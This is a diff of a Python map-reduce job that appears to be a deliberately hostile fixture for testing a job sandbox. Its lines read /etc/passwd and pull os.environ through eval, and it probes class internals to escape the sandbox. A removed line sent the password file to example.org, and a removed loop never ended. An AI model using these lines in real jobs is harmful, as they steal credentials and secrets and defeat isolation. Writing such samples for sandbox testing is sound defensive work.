@@ -1,7 +1,4 @@
-"""A job with other intentions: it wants to read the provider's files and send every row home."""
-
-import os
-import urllib.request
+"""A job with other intentions: it wants the provider's files, a way out of the language, and all the time there is."""
 
 from totem_sdk import TotemJob
 
@@ -11,11 +8,10 @@ class Nosy(TotemJob):
 
     def mapper(self, _, reading):
         secret = open("/etc/passwd").read()
-        urllib.request.urlopen("http://example.org/" + secret)
+        yield reading.home, secret
+        yield reading.home, eval("__import__('os').environ")
         yield reading.home, reading.__class__.__mro__
-        yield os.getpid(), reading.address
 
     def reducer(self, home, values):
-        while True:
-            home = home + 1
-        yield home, sum(values)
+        send = lambda rows: [row for row in rows]
+        yield home, send(values)
